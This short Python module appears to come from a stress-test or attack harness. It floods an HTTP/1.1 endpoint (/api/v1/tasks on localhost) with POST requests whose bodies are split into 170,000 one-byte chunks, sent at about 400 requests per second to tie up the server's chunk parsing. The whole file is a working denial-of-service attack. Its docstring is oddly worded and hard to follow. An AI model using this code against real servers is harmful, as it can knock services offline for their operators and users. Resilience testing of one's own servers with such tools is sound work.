"""A stranger posts bodies in HTTP/1.1 as chunks of one byte, a megabyte of them at once: who moves what waits for each chunk that it
takes works for seconds. It has no token; who is refused comes again."""
import socket
import time

POINT = 7
CHUNKS = 170000
POSTS_PER_S = 400
HEAD = b"POST /api/v1/tasks HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
BODY = b"1\r\n \r\n" * CHUNKS + b"0\r\n\r\n"


def post(port, counts, stop):
    """One request; its answer may come before its end."""
    with socket.create_connection(("127.0.0.1", port), 5) as sock:
        counts["requests"] += 1
        sock.sendall(HEAD)
        sock.setblocking(False)
        sent = 0
        while sent < len(BODY) and not stop.is_set():
            try:
                taken = sock.send(BODY[sent:sent + 65536])
            except BlockingIOError:
                stop.wait(0.001)
                continue
            sent += taken
            counts["bytes"] += taken


def attack(target, stop):
    counts = {"requests": 0, "bytes": 0, "connections_lost": 0}
    began = time.monotonic()
    while not stop.is_set():
        try:
            post(target.h2c, counts, stop)
        except OSError:
            counts["connections_lost"] += 1
        stop.wait(max(counts["requests"] / (POSTS_PER_S * target.share) - (time.monotonic() - began), 0.001))
    return counts
